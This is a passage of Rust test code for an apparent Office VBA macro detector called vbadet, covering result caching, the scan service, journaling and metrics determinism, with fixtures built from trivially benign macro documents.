use vbadet_ovba::VbaProjectBuilder;
use vbadet_zip::{CompressionMethod, ZipWriter};

static TEST_LOCK: Mutex<()> = Mutex::new(());

fn global_guard() -> MutexGuard<'static, ()> {
    let guard = TEST_LOCK.lock().unwrap_or_else(|p| p.into_inner());
    #[cfg(feature = "faultpoints")]
    vbadet_faultpoint::clear();
    vbadet::scan::interrupt::reset();
    guard
}

fn worker_config() -> IsolateConfig {
    IsolateConfig::new(vec![env!("CARGO_BIN_EXE_isolation_worker").to_string()])
}

fn tiny_detector() -> Detector {
    Detector::train_on_corpus(
        &DetectorConfig::default(),
        &CorpusSpec::paper().scaled(0.002),
    )
}

fn macro_document() -> Vec<u8> {
    let mut b = VbaProjectBuilder::new("P");
    b.add_module("Module1", "Sub Work()\r\n    x = 1\r\nEnd Sub\r\n");
    b.build().unwrap()
}

fn clean_document() -> Vec<u8> {
    let mut ole = OleBuilder::new();
    ole.add_stream("WordDocument", b"plain text, no project")
        .unwrap();
    ole.build()
}

fn docm_document() -> Vec<u8> {
    let mut zip = ZipWriter::new();
    zip.add_file(
        "[Content_Types].xml",
        b"<?xml version=\"1.0\"?><Types/>",
        CompressionMethod::Deflate,
    )
    .unwrap();
    zip.add_file(
        "word/vbaProject.bin",
        &macro_document(),
        CompressionMethod::Deflate,
    )
    .unwrap();
    zip.finish()
}

fn fresh_dir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("vbadet-cache-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// A duplicate-heavy corpus: 6 distinct contents (macros, clean OLE,
/// OOXML, junk, a truncated project, an empty file), each repeated —
/// exactly the shape a mail-attachment scanner sees.
fn duplicate_corpus(dir: &Path, docs: usize) -> Vec<PathBuf> {
    let truncated = {
        let full = macro_document();
        let cut = full.len() / 2;
        full[..cut].to_vec()
    };
    (0..docs)
        .map(|i| {
            let p = dir.join(format!("doc{i:02}.bin"));
            let bytes = match i % 6 {
                0 => macro_document(),
                1 => clean_document(),
                2 => docm_document(),
                3 => b"not a document at all".to_vec(),
                4 => truncated.clone(),
                _ => Vec::new(),
            };
            std::fs::write(&p, bytes).unwrap();
            p
        })
        .collect()
}

/// Distinct contents in a [`duplicate_corpus`] of `docs` documents.
fn unique_contents(docs: usize) -> u64 {
    docs.min(6) as u64
}

fn metered(policy: ScanPolicy) -> ScanPolicy {
    policy.with_metrics(MetricsSink::enabled())
}

fn hist_total(metrics: &ScanMetrics, label: &str) -> u64 {
    metrics.histograms.get(label).map_or(0, |h| h.total)
}

#[test]
fn cold_cache_is_byte_identical_to_cache_off_across_every_engine() {
    let _guard = global_guard();
    let det = &tiny_detector();
    let dir = fresh_dir("cold-equiv");
    let paths = duplicate_corpus(&dir, 18);

    let engines: Vec<(&str, ScanPolicy)> = vec![
        ("sequential", ScanPolicy::default()),
        ("jobs-4", ScanPolicy::default().jobs(4)),
        (
            "isolate",
            ScanPolicy::default().jobs(3).isolated(worker_config()),
        ),
    ];
    for (name, base) in engines {
        let off = scan_paths_with_policy(det, &paths, &metered(base.clone()));
        let cold_policy = metered(base.clone()).with_cache(Arc::new(ScanCache::in_memory(1024)));
        let cold = scan_paths_with_policy(det, &paths, &cold_policy);

        assert_eq!(off.records, cold.records, "{name}: cold records diverge");
        let off_counters = off.metrics.unwrap().counters_json();
        let cold_metrics = cold.metrics.unwrap();
        assert_eq!(
            off_counters,
            cold_metrics.counters_json(),
            "{name}: cold deterministic counters diverge"
        );
        // Cache traffic is histogram-side telemetry only — it must never
        // leak into the deterministic counters section.
        assert!(!off_counters.contains("cache."), "{name}: {off_counters}");
        // A duplicate-heavy corpus hits even on the cold pass (later
        // copies find the first copy's entry).
        assert!(
            hist_total(&cold_metrics, "cache.inserts") >= unique_contents(paths.len()),
            "{name}: no inserts recorded"
        );
    }

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn warm_cache_serves_every_document_and_stays_byte_identical() {
    let _guard = global_guard();
    let det = &tiny_detector();
    let dir = fresh_dir("warm-equiv");
    let paths = duplicate_corpus(&dir, 18);
    let docs = paths.len() as u64;

    let off = scan_paths_with_policy(det, &paths, &metered(ScanPolicy::default()));
    let cache = Arc::new(ScanCache::in_memory(1024));

    let cold_policy = metered(ScanPolicy::default()).with_cache(Arc::clone(&cache));
    let cold = scan_paths_with_policy(det, &paths, &cold_policy);
    let cold_metrics = cold.metrics.unwrap();
    // Sequentially, exactly one miss per distinct content; every later
    // duplicate hits.
    assert_eq!(
        hist_total(&cold_metrics, "cache.misses"),
        unique_contents(paths.len())
    );
    assert_eq!(
        hist_total(&cold_metrics, "cache.hits"),
        docs - unique_contents(paths.len())
    );

    // The warm pass re-scans nothing: every document is a hit, and both
    // the records and the deterministic counters still match cache-off.
    let warm_policy = metered(ScanPolicy::default()).with_cache(Arc::clone(&cache));
    let warm = scan_paths_with_policy(det, &paths, &warm_policy);
    assert_eq!(off.records, cold.records);
    assert_eq!(off.records, warm.records);
    let warm_metrics = warm.metrics.unwrap();
    assert_eq!(hist_total(&warm_metrics, "cache.hits"), docs);
    assert_eq!(hist_total(&warm_metrics, "cache.misses"), 0);
    let off_counters = off.metrics.unwrap().counters_json();
    assert_eq!(off_counters, cold_metrics.counters_json());
    assert_eq!(off_counters, warm_metrics.counters_json());

    // A warm cache warms the *other* engines too: same entries, same key.
    let warm_par = scan_paths_with_policy(
        det,
        &paths,
        &metered(ScanPolicy::default().jobs(4)).with_cache(Arc::clone(&cache)),
    );
    assert_eq!(off.records, warm_par.records);
    let par_metrics = warm_par.metrics.unwrap();
    assert_eq!(hist_total(&par_metrics, "cache.hits"), docs);
    assert_eq!(off_counters, par_metrics.counters_json());

    let warm_iso = scan_paths_with_policy(
        det,
        &paths,
        &metered(ScanPolicy::default().jobs(3).isolated(worker_config()))
            .with_cache(Arc::clone(&cache)),
    );
    assert_eq!(off.records, warm_iso.records);
    let iso_metrics = warm_iso.metrics.unwrap();
    assert_eq!(hist_total(&iso_metrics, "cache.hits"), docs);
    assert_eq!(off_counters, iso_metrics.counters_json());

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn retraining_the_detector_invalidates_every_entry() {
    let _guard = global_guard();
    let det_a = tiny_detector();
    // A different corpus scale is a retrain: different weights, different
    // save() text, different fingerprint.
    let det_b = Detector::train_on_corpus(
        &DetectorConfig::default(),
        &CorpusSpec::paper().scaled(0.003),
    );
    let dir = fresh_dir("detector-inval");
    // Duplicate-free (6 documents, 6 distinct contents) so "zero hits"
    // is exact: with duplicates, later copies would hit the fresh
    // B-keyed entries inserted earlier in the same run.
    let paths = duplicate_corpus(&dir, 6);
    let cache = Arc::new(ScanCache::in_memory(1024));

    // Warm the cache under detector A.
    let warm_a = metered(ScanPolicy::default()).with_cache(Arc::clone(&cache));
    scan_paths_with_policy(&det_a, &paths, &warm_a);

    // Detector B must see clean misses for every document — a stale
    // verdict scored by A would be silently wrong under B.
    let reference_b = scan_paths_with_policy(&det_b, &paths, &metered(ScanPolicy::default()));
    let cached_b = metered(ScanPolicy::default()).with_cache(Arc::clone(&cache));
    let report_b = scan_paths_with_policy(&det_b, &paths, &cached_b);
    let metrics_b = report_b.metrics.unwrap();
    assert_eq!(hist_total(&metrics_b, "cache.hits"), 0);
    assert_eq!(hist_total(&metrics_b, "cache.misses"), paths.len() as u64);
    assert_eq!(report_b.records, reference_b.records);

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn changing_an_outcome_affecting_policy_field_invalidates_every_entry() {
    let _guard = global_guard();
    let det = &tiny_detector();
    let dir = fresh_dir("policy-inval");
    // Duplicate-free, same reasoning as the detector-invalidation test.
    let paths = duplicate_corpus(&dir, 6);
    let cache = Arc::new(ScanCache::in_memory(1024));

    scan_paths_with_policy(
        det,
        &paths,
        &metered(ScanPolicy::default()).with_cache(Arc::clone(&cache)),
    );

    // A fuel budget is outcome-affecting (it can turn a scan into a
    // Timeout), so even a generous one keys differently. The documents
    // here are tiny, so the *outcomes* happen to match — which is exactly
    // what makes silent staleness undetectable, and fingerprinting
    // mandatory.
    let fueled = metered(ScanPolicy::default().fuel(1_000_000_000)).with_cache(Arc::clone(&cache));
    let report = scan_paths_with_policy(det, &paths, &fueled);
    let metrics = report.metrics.unwrap();
    assert_eq!(hist_total(&metrics, "cache.hits"), 0);
    let reference = scan_paths_with_policy(
        det,
        &paths,
        &metered(ScanPolicy::default().fuel(1_000_000_000)),
    );
    assert_eq!(report.records, reference.records);

    // Execution-shape knobs (jobs) are NOT outcome-affecting and share
    // entries: the same policy at a different job count is all hits.
    let reshaped = metered(ScanPolicy::default().jobs(4)).with_cache(Arc::clone(&cache));
    let report = scan_paths_with_policy(det, &paths, &reshaped);
    assert_eq!(
        hist_total(&report.metrics.unwrap(), "cache.hits"),
        paths.len() as u64
    );

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn persistent_cache_stays_warm_across_a_reopen() {
    let _guard = global_guard();
    let det = &tiny_detector();
    let dir = fresh_dir("persist");
    let paths = duplicate_corpus(&dir, 12);
    let store = dir.join("cache");

    let first = {
        let cache = ScanCache::persistent(&store, 1024).unwrap();
        assert!(cache.is_empty());
        let policy = metered(ScanPolicy::default()).with_cache(Arc::new(cache));
        scan_paths_with_policy(det, &paths, &policy)
        // Dropping the policy drops the cache and syncs the segment.
    };

    // A fresh process (modeled by a fresh ScanCache over the same dir)
    // loads the store and serves everything from memory.
    let cache = ScanCache::persistent(&store, 1024).unwrap();
    assert!(
        cache.load_warnings().is_empty(),
        "{:?}",
        cache.load_warnings()
    );
    assert_eq!(cache.len() as u64, unique_contents(paths.len()));
    let policy = metered(ScanPolicy::default()).with_cache(Arc::new(cache));
    let second = scan_paths_with_policy(det, &paths, &policy);
    assert_eq!(first.records, second.records);
    let metrics = second.metrics.unwrap();
    assert_eq!(hist_total(&metrics, "cache.hits"), paths.len() as u64);
    assert_eq!(hist_total(&metrics, "cache.misses"), 0);

    let _ = std::fs::remove_dir_all(&dir);
}

// ---------------------------------------------------------------------------
// Resident service: duplicate requests share one scan.
// ---------------------------------------------------------------------------

/// Runs the service on an ephemeral TCP port for the duration of `drive`,
/// then requests the drain and returns the summary alongside `drive`'s
/// result. (Same shape as the serve suite's helper; test files are
/// separate crates.)
fn with_server<R: Send>(
    detector: &Detector,
    config: &ServeConfig,
    drive: impl FnOnce(std::net::SocketAddr) -> R + Send,
) -> (ServeSummary, R) {
    let listener = Listener::bind_tcp("127.0.0.1:0").unwrap();
    let addr = listener.tcp_addr().unwrap();
    vbadet::scan::interrupt::reset();
    let mut out = None;
    let mut summary = None;
    struct DrainOnDrop;
    impl Drop for DrainOnDrop {
        fn drop(&mut self) {
            vbadet::scan::interrupt::request_drain();
        }
    }
    thread::scope(|s| {
        let server = s.spawn(|| vbadet::serve(&listener, detector, config, None));
        let drain = DrainOnDrop;
        out = Some(drive(addr));
        drop(drain);
        summary = Some(server.join().unwrap());
    });
    (summary.unwrap(), out.unwrap())
}

struct Client {
    writer: TcpStream,
    reader: BufReader<TcpStream>,
}

impl Client {
    fn connect(addr: std::net::SocketAddr) -> Client {
        let writer = TcpStream::connect(addr).unwrap();
        writer.set_nodelay(true).unwrap();
        let reader = BufReader::new(writer.try_clone().unwrap());
        Client { writer, reader }
    }

    fn roundtrip(&mut self, line: &str) -> String {
        self.writer
            .write_all(format!("{line}\n").as_bytes())
            .unwrap();
        let mut line = String::new();
        self.reader.read_line(&mut line).unwrap();
        line.trim().to_string()
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn serve_path_and_inline_requests_with_identical_content_share_the_cache() {
    let _guard = global_guard();
    let det = tiny_detector();
    let dir = fresh_dir("serve-dedup");
    let doc = dir.join("doc.bin");
    std::fs::write(&doc, macro_document()).unwrap();

    let policy = ScanPolicy::default().with_cache(Arc::new(ScanCache::in_memory(64)));
    let config = ServeConfig::new(policy);
    let (summary, (by_path, by_bytes)) = with_server(&det, &config, |addr| {
        let mut c = Client::connect(addr);
        let by_path = c.roundtrip(&format!("scan {}", doc.display()));
        let by_bytes = c.roundtrip(&format!(
            "{{\"op\":\"scan\",\"bytes_hex\":\"{}\"}}",
            hex(&macro_document())
        ));
        (by_path, by_bytes)
    });

    // Identical content => the same terminal response, whichever door the
    // bytes came through — and the second caller never re-scanned.
    assert!(by_path.contains("\"kind\":\"macros\""), "{by_path}");
    assert_eq!(by_path, by_bytes);
    let metrics = summary.metrics.unwrap();
    assert_eq!(hist_total(&metrics, "cache.misses"), 1);
    assert_eq!(hist_total(&metrics, "cache.hits"), 1);
    assert_eq!(hist_total(&metrics, "cache.inserts"), 1);

    let _ = std::fs::remove_dir_all(&dir);
}

#[cfg(feature = "faultpoints")]
mod faultpoints {
    use super::*;
    use std::panic::AssertUnwindSafe;
    use std::time::Duration;

    use vbadet::{replay_journal, scan_paths_journaled, FailureClass, ScanJournal, ScanOutcome};
    use vbadet_faultpoint::{clear, configure, hit_count};

    #[test]
    fn kill_and_resume_with_a_warm_cache_equals_an_uncached_resume() {
        let _guard = global_guard();
        let det = &tiny_detector();
        let dir = fresh_dir("kill-resume");
        let paths = duplicate_corpus(&dir, 12);

        let policy = ScanPolicy::default().with_ladder();
        let reference = scan_paths_journaled(det, &paths, &policy, None, None);

        // Warm the cache with a full pass, then kill a cached journaled
        // run at document 3 — the crash surface is identical to the
        // uncached engine's (`scan::between-docs` fires outside the
        // per-document containment).
        let cache = Arc::new(ScanCache::in_memory(1024));
        let cached_policy = policy.clone().with_cache(Arc::clone(&cache));
        scan_paths_journaled(det, &paths, &cached_policy, None, None);

        configure("scan::between-docs", "panic(killed)@3").unwrap();
        let journal_path = dir.join("scan.jsonl");
        let mut journal = ScanJournal::create(&journal_path).unwrap();
        let crash = std::panic::catch_unwind(AssertUnwindSafe(|| {
            scan_paths_journaled(det, &paths, &cached_policy, Some(&mut journal), None)
        }));
        assert!(crash.is_err(), "the injected kill should have escaped");
        assert_eq!(hit_count("scan::between-docs"), 3);
        clear();
        drop(journal);

        let replay = replay_journal(&journal_path).unwrap();
        assert!(replay.warning.is_none());
        assert_eq!(replay.completed_count(), 2);

        // Resuming with the warm cache and resuming with no cache land on
        // the same records as the never-crashed reference.
        let resumed_cached = scan_paths_journaled(det, &paths, &cached_policy, None, Some(&replay));
        let resumed_uncached = scan_paths_journaled(det, &paths, &policy, None, Some(&replay));
        assert_eq!(resumed_cached.records, reference.records);
        assert_eq!(resumed_uncached.records, reference.records);

        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn stat_read_growth_race_is_still_limit_exceeded_with_caching_on() {
        let _guard = global_guard();
        let det = &tiny_detector();
        let dir = fresh_dir("statrace");

        // Same race as the uncached regression test: the file passes the
        // stat at 64 bytes, an appender grows it past the cap inside the
        // injected stat→read gap. The growth check runs before the digest,
        // so the oversized buffer is never hashed, never cached, and the
        // record is the same typed LimitExceeded.
        let victim = dir.join("growing.bin");
        std::fs::write(&victim, vec![0u8; 64]).unwrap();
        let cache = Arc::new(ScanCache::in_memory(64));
        let mut policy = ScanPolicy::default().with_cache(Arc::clone(&cache));
        policy.limits.max_file_size = 2048;

        configure("scan::stat-read-gap", "sleep(200)").unwrap();
        let appender = {
            let victim = victim.clone();
            std::thread::spawn(move || {
                std::thread::sleep(Duration::from_millis(40));
                let mut file = std::fs::OpenOptions::new()
                    .append(true)
                    .open(&victim)
                    .unwrap();
                std::io::Write::write_all(&mut file, &vec![0u8; 8192]).unwrap();
            })
        };
        let report = scan_paths_with_policy(det, &[&victim], &policy);
        appender.join().unwrap();
        clear();

        match &report.records[0].outcome {
            ScanOutcome::Failed {
                class: FailureClass::LimitExceeded,
                detail,
            } => {
                assert!(detail.contains("grew"), "detail was {detail:?}");
            }
            other => panic!("expected LimitExceeded after mid-read growth, got {other:?}"),
        }
        assert!(
            cache.is_empty(),
            "an over-cap read must never produce a cache entry"
        );

        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn concurrent_identical_serve_requests_are_single_flighted() {
        let _guard = global_guard();
        let det = tiny_detector();
        let dir = fresh_dir("serve-flight");
        let doc = dir.join("doc.bin");
        std::fs::write(&doc, macro_document()).unwrap();

        // The leader's scan stalls long enough for the duplicate to
        // arrive mid-flight; the follower must share the leader's
        // terminal response, not start a second scan.
        configure("scan::full-parse", "sleep(250)").unwrap();

        let policy = ScanPolicy::default().with_cache(Arc::new(ScanCache::in_memory(64)));
        let config = ServeConfig::new(policy);
        let (summary, (by_path, by_bytes)) = with_server(&det, &config, |addr| {
            thread::scope(|s| {
                let path_req =
                    s.spawn(|| Client::connect(addr).roundtrip(&format!("scan {}", doc.display())));
                // Stagger the duplicate into the leader's stall window.
                thread::sleep(Duration::from_millis(60));
                let bytes_req = s.spawn(|| {
                    Client::connect(addr).roundtrip(&format!(
                        "{{\"op\":\"scan\",\"bytes_hex\":\"{}\"}}",
                        hex(&macro_document())
                    ))
                });
                (path_req.join().unwrap(), bytes_req.join().unwrap())
            })
        });
        clear();

        // Both callers get the same terminal response, and only one scan
        // ever ran: one miss (the leader), one hit (the follower's shared
        // flight — or, had timing collapsed the overlap, a plain cache
        // hit; either way never a second scan).
        assert!(by_path.contains("\"kind\":\"macros\""), "{by_path}");
        assert_eq!(by_path, by_bytes);
        let metrics = summary.metrics.unwrap();
        assert_eq!(hist_total(&metrics, "cache.misses"), 1);
        assert_eq!(hist_total(&metrics, "cache.hits"), 1);
        assert_eq!(hist_total(&metrics, "cache.inserts"), 1);

        let _ = std::fs::remove_dir_all(&dir);
    }
}
