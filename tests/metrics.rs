//! Observability suite: the `ScanMetrics` snapshot must be deterministic —
//! identical counters for identical inputs, sequential == parallel at any
//! worker count — and the failure paths (salvage, budget trips) must land
//! in the counters that name them.
//!
//! Tests serialize on `TEST_LOCK` for the same reason the parallel suite
//! does: equivalence runs spawn their own worker pools.

use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Mutex, MutexGuard, OnceLock};

use vbadet::{
    scan_paths_journaled, scan_paths_with_policy, Detector, DetectorConfig, MetricsSink,
    ScanJournal, ScanMetrics, ScanPolicy,
};
use vbadet_corpus::CorpusSpec;
use vbadet_ole::OleBuilder;
use vbadet_ovba::VbaProjectBuilder;

static TEST_LOCK: Mutex<()> = Mutex::new(());

fn serial() -> MutexGuard<'static, ()> {
    TEST_LOCK.lock().unwrap_or_else(|p| p.into_inner())
}

fn detector() -> &'static Detector {
    static DET: OnceLock<Detector> = OnceLock::new();
    DET.get_or_init(|| {
        Detector::train_on_corpus(
            &DetectorConfig::default(),
            &CorpusSpec::paper().scaled(0.002),
        )
    })
}

fn fresh_dir(tag: &str) -> PathBuf {
    static COUNTER: AtomicUsize = AtomicUsize::new(0);
    let dir = std::env::temp_dir().join(format!(
        "vbadet-metrics-{tag}-{}-{}",
        std::process::id(),
        COUNTER.fetch_add(1, Ordering::Relaxed)
    ));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn macro_doc(i: usize) -> Vec<u8> {
    let mut b = VbaProjectBuilder::new("P");
    b.add_module(
        &format!("Module{i}"),
        &format!("Sub Work{i}()\r\n    x = {i}\r\n    y = x * 2\r\nEnd Sub\r\n"),
    );
    b.build().unwrap()
}

fn clean_doc(i: usize) -> Vec<u8> {
    let mut ole = OleBuilder::new();
    ole.add_stream(
        "WordDocument",
        format!("plain text #{i}, no macros").as_bytes(),
    )
    .unwrap();
    ole.build()
}

/// Wreckage only the salvage rung can mine: a fake ZIP signature followed
/// by an intact compressed module.
fn salvage_wreck(i: usize) -> Vec<u8> {
    let mut doc = b"PK\x03\x04 not really an archive ".to_vec();
    doc.extend_from_slice(&vbadet_ovba::compress(
        format!("Attribute VB_Name = \"M{i}\"\r\nSub S{i}()\r\n    x = {i}\r\nEnd Sub\r\n")
            .as_bytes(),
    ));
    doc
}

/// A corpus hitting every outcome family: parsed macros, clean documents,
/// junk, truncations, and salvage-only wreckage.
fn write_mixed_corpus(dir: &Path, n: usize) -> Vec<PathBuf> {
    let mut paths = Vec::with_capacity(n);
    for i in 0..n {
        let (name, bytes): (String, Vec<u8>) = match i % 6 {
            0 | 1 => (format!("doc{i:04}.bin"), macro_doc(i)),
            2 => (format!("doc{i:04}.doc"), clean_doc(i)),
            3 => (
                format!("doc{i:04}.txt"),
                format!("junk payload {i}").into_bytes(),
            ),
            4 => {
                let full = macro_doc(i);
                (
                    format!("doc{i:04}.trunc.bin"),
                    full[..full.len() / 3].to_vec(),
                )
            }
            _ => (format!("doc{i:04}.wreck"), salvage_wreck(i)),
        };
        let path = dir.join(name);
        std::fs::write(&path, &bytes).unwrap();
        paths.push(path);
    }
    paths
}

fn metered_policy() -> ScanPolicy {
    ScanPolicy::default()
        .with_ladder()
        .with_metrics(MetricsSink::enabled())
}

fn run(det: &Detector, paths: &[PathBuf], policy: &ScanPolicy) -> ScanMetrics {
    let report = scan_paths_with_policy(det, paths, policy);
    report
        .metrics
        .expect("metered policy must produce a snapshot")
}

#[test]
fn counters_are_identical_between_sequential_and_every_worker_count() {
    let _serial = serial();
    let det = detector();
    let dir = fresh_dir("seq-par");
    let paths = write_mixed_corpus(&dir, 42);

    let sequential = run(det, &paths, &metered_policy());
    assert!(sequential.counter("scan.docs") == 42);
    for jobs in [2, 4, 8] {
        // Fresh sink per run: the snapshot must be attributable to this
        // run alone, not an accumulation across engines.
        let policy = ScanPolicy {
            jobs,
            ..metered_policy()
        };
        let parallel = run(det, &paths, &policy);
        assert_eq!(
            parallel.counters_json(),
            sequential.counters_json(),
            "jobs={jobs}: counters diverged from sequential"
        );
    }

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn counters_are_identical_across_repeated_runs() {
    let _serial = serial();
    let det = detector();
    let dir = fresh_dir("repeat");
    let paths = write_mixed_corpus(&dir, 24);

    let first = run(det, &paths, &metered_policy());
    let second = run(det, &paths, &metered_policy());
    assert_eq!(first.counters_json(), second.counters_json());

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn pipeline_counters_cover_every_stage_the_corpus_exercises() {
    let _serial = serial();
    let det = detector();
    let dir = fresh_dir("stages");
    let paths = write_mixed_corpus(&dir, 36);

    let m = run(det, &paths, &metered_policy());
    // 36 docs, i%6 buckets of 6 each: 12 parsed OLE macro docs, 6 clean
    // OLE, 6 junk, 6 truncated, 6 salvage wrecks.
    assert_eq!(m.counter("scan.docs"), 36);
    assert_eq!(m.counter("scan.macros"), 12);
    assert_eq!(m.counter("scan.clean"), 6);
    // Wrecks recover through the ladder; junk and truncations fail.
    assert_eq!(m.counter("scan.recovered"), 6);
    assert_eq!(m.counter("scan.failed"), 12);
    assert_eq!(
        m.counter("scan.failed"),
        m.counter("scan.failed.unknown-container") + m.counter("scan.failed.truncated"),
        "failure class counters must partition scan.failed: {}",
        m.counters_json()
    );
    // The parse layers underneath saw real work.
    assert!(m.counter("ole.parses") >= 18, "{}", m.counters_json());
    assert!(m.counter("ole.sectors") > 0);
    assert!(m.counter("ovba.decompress_calls") > 0);
    assert!(m.counter("ovba.bytes_out") > 0);
    // `extract.docs` counts extraction *attempts* — one per ladder rung
    // that ran — so it covers at least the full rung of every document.
    assert!(m.counter("extract.docs") >= m.counter("ladder.full_attempts"));
    assert_eq!(
        m.counter("extract.docs"),
        m.counter("ladder.full_attempts") + m.counter("ladder.strict_attempts"),
    );
    assert!(m.counter("scan.modules_scored") >= 18);
    // Timers live in the histograms section only.
    assert_eq!(m.counter("scan.doc_ns"), 0);
    assert!(m.stage_total_ns("scan.doc_ns") > 0);
    assert!(m.stage_total_ns("ole.parse_ns") > 0);
    // The scoring hot path reports its two stages separately.
    assert!(m.stage_total_ns("scan.features_ns") > 0);
    assert!(m.stage_total_ns("scan.predict_ns") > 0);

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn salvage_path_increments_salvage_counters() {
    let _serial = serial();
    let det = detector();
    let dir = fresh_dir("salvage");
    let paths: Vec<PathBuf> = (0..4)
        .map(|i| {
            let p = dir.join(format!("wreck{i}.bin"));
            std::fs::write(&p, salvage_wreck(i)).unwrap();
            p
        })
        .collect();

    let m = run(det, &paths, &metered_policy());
    assert_eq!(
        m.counter("ladder.salvage_attempts"),
        4,
        "{}",
        m.counters_json()
    );
    assert_eq!(m.counter("ladder.recovered"), 4);
    assert_eq!(m.counter("ovba.salvage_scans"), 4);
    assert_eq!(m.counter("ovba.salvage_modules"), 4);
    assert!(m.counter("ovba.salvage_candidates") >= 4);
    assert_eq!(m.counter("scan.recovered"), 4);
    assert!(m.stage_total_ns("ovba.salvage_ns") > 0);
    assert!(m.stage_total_ns("extract.salvage_ns") > 0);

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn budget_trip_lands_in_the_timeout_counter() {
    let _serial = serial();
    let det = detector();
    let dir = fresh_dir("timeout");
    let stall = dir.join("stall.bin");
    let body = "    x = x + 1 ' busywork\r\n".repeat(20_000);
    let mut b = VbaProjectBuilder::new("Stall");
    b.add_module("M", &format!("Sub S()\r\n{body}End Sub\r\n"));
    std::fs::write(&stall, b.build().unwrap()).unwrap();
    let fine = dir.join("fine.bin");
    std::fs::write(&fine, macro_doc(1)).unwrap();

    let policy = ScanPolicy::default()
        .fuel(64)
        .with_metrics(MetricsSink::enabled());
    let m = run(det, &[stall, fine], &policy);
    assert_eq!(m.counter("scan.docs"), 2);
    assert_eq!(m.counter("scan.failed"), 1);
    assert_eq!(m.counter("scan.failed.timeout"), 1, "{}", m.counters_json());
    assert_eq!(m.counter("scan.macros"), 1);

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn journal_counters_match_the_journal_file() {
    let _serial = serial();
    let det = detector();
    let dir = fresh_dir("journal");
    let paths = write_mixed_corpus(&dir, 18);

    let journal_path = dir.join("scan.jsonl");
    let mut journal = ScanJournal::create(&journal_path).unwrap();
    let policy = metered_policy();
    let report = scan_paths_journaled(det, &paths, &policy, Some(&mut journal), None);
    drop(journal);
    assert!(report.journal_error.is_none());
    let m = report.metrics.unwrap();
    assert_eq!(m.counter("journal.begin_records"), 18);
    assert_eq!(m.counter("journal.done_records"), 18);
    assert!(m.counter("journal.syncs") >= 1);
    // The header line is written before the sink sees the journal, so the
    // byte counter covers exactly the body the scan itself appended.
    let file_len = std::fs::metadata(&journal_path).unwrap().len();
    assert!(m.counter("journal.bytes") > 0);
    assert!(m.counter("journal.bytes") < file_len);
    assert!(m.stage_total_ns("journal.write_ns") > 0);

    // The parallel engine journals through a single collector: identical
    // journal counters, not jobs-times-inflated ones.
    let journal_path_par = dir.join("scan-par.jsonl");
    let mut journal = ScanJournal::create(&journal_path_par).unwrap();
    let par_policy = ScanPolicy {
        jobs: 4,
        ..metered_policy()
    };
    let report = scan_paths_journaled(det, &paths, &par_policy, Some(&mut journal), None);
    drop(journal);
    let par = report.metrics.unwrap();
    assert_eq!(par.counters_json(), m.counters_json());

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn snapshot_round_trips_through_json() {
    let _serial = serial();
    let det = detector();
    let dir = fresh_dir("roundtrip");
    let paths = write_mixed_corpus(&dir, 12);

    let m = run(det, &paths, &metered_policy());
    let text = m.to_json();
    let back = ScanMetrics::from_json(&text).expect("snapshot JSON must parse back");
    assert_eq!(
        back, m,
        "round-trip must preserve every counter and histogram"
    );
    // And the dump is self-describing: garbage or foreign formats fail.
    assert!(ScanMetrics::from_json("").is_err());
    assert!(ScanMetrics::from_json("{}").is_err());
    assert!(ScanMetrics::from_json(&text.replace("vbadet-scan-metrics", "other")).is_err());

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn serve_stage_counters_round_trip_through_json_and_the_wire_form() {
    let _serial = serial();
    // The service counters live on the histogram side (request
    // interleaving is racy, so they are exempt from the determinism
    // contract) and must survive both the pretty dump `--metrics-json`
    // writes and the squeezed single-line form the `metrics` verb ships.
    use vbadet::Stage;
    let sink = MetricsSink::enabled();
    for (stage, value) in [
        (Stage::ServeAccepted, 1),
        (Stage::ServeShed, 1),
        (Stage::ServeBreakerOpens, 1),
        (Stage::ServeBreakerRejects, 3),
        (Stage::ServeDrains, 1),
        (Stage::ServeQueueDepth, 17),
        (Stage::ServeRequestNs, 1_234_567),
    ] {
        sink.record(stage, value);
    }
    let m = sink.snapshot().unwrap();
    for key in [
        "serve.accepted",
        "serve.shed",
        "serve.breaker_opens",
        "serve.breaker_rejects",
        "serve.drains",
        "serve.queue_depth",
        "serve.request_ns",
    ] {
        assert!(m.histograms.contains_key(key), "missing histogram {key}");
        assert_eq!(
            m.counter(key),
            0,
            "{key} must not be a deterministic counter"
        );
    }
    assert_eq!(m.histograms["serve.queue_depth"].total, 17);
    assert_eq!(m.histograms["serve.breaker_rejects"].count, 1);

    let pretty = m.to_json();
    assert_eq!(ScanMetrics::from_json(&pretty).unwrap(), m);
    let wire: String = pretty.split_whitespace().collect();
    assert!(!wire.contains('\n'), "wire form must be one line");
    assert_eq!(ScanMetrics::from_json(&wire).unwrap(), m);
}

#[test]
fn disabled_sink_produces_no_snapshot() {
    let _serial = serial();
    let det = detector();
    let dir = fresh_dir("disabled");
    let path = dir.join("doc.bin");
    std::fs::write(&path, macro_doc(0)).unwrap();

    // The default policy carries a disabled sink: no snapshot, no cost.
    let report = scan_paths_with_policy(det, &[path], &ScanPolicy::default());
    assert!(report.metrics.is_none());

    let _ = std::fs::remove_dir_all(&dir);
}
