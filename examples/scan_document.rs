//! Scan a real document container end-to-end: builds a `.docm`-style OOXML
//! file (ZIP + OLE `vbaProject.bin` + compressed module streams) carrying
//! one benign and one obfuscated macro, then extracts and scores each
